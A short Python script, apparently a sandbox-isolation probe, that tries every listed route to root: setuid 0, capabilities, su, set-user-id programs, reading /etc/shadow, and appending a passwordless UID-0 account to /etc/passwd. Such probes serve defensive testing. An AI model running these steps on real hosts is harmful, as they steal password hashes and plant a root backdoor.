"""Becomes another user, by every way there is."""

import os
import subprocess

from attempts import attempt, libc

PRCTL_CAP_AMBIENT, CAP_SYS_ADMIN = 47, 21


def by_program(*words):
    done = subprocess.run(words, capture_output=True, text=True, stdin=subprocess.DEVNULL, timeout=5)
    if done.returncode == 0:
        return done.stdout
    raise PermissionError(done.stderr.strip()[:200])


def set_user_id_programs():
    """One that would still work: no_new_privs makes the bit mean nothing."""
    status = dict(line.split(":", 1) for line in open("/proc/self/status"))
    if status["NoNewPrivs"].strip() == "1":
        raise PermissionError("no new privileges")
    return "set-user-id programs work"


attempt("user 0", lambda: os.setuid(0))
attempt("group 0", lambda: os.setgid(0))
attempt("user 0, for a while", lambda: os.setresuid(0, 0, 0))
attempt("further groups", lambda: os.setgroups([0, 42]))
attempt("raised capabilities", lambda: libc("prctl", PRCTL_CAP_AMBIENT, 2, CAP_SYS_ADMIN, 0, 0))
attempt("su", lambda: by_program("su", "-c", "id"))
attempt("set-user-id programs", set_user_id_programs)
attempt("the passwords of the host", lambda: open("/etc/shadow").read())
attempt("writing the users", lambda: open("/etc/passwd", "a").write("x::0:0::/:/bin/sh\n"))
